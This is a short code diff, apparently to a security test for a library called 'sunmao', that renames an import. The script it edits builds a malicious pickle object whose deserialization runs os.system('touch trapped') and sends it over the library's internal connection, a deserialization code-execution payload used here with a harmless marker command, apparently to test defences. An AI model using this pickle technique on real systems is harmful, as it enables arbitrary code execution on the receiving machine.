@@ -2,7 +2,7 @@ import os
 import pickle
 import time
 
-from sunmao import link
+from sunmao.runtime import session
 
 
 class Trap:
@@ -10,5 +10,5 @@ class Trap:
         return os.system, ('touch trapped',)
 
 
-link._link.outbox._wire._connection.send_bytes(pickle.dumps(Trap()))
+session._session.outbox._wire._connection.send_bytes(pickle.dumps(Trap()))
 time.sleep(3600)
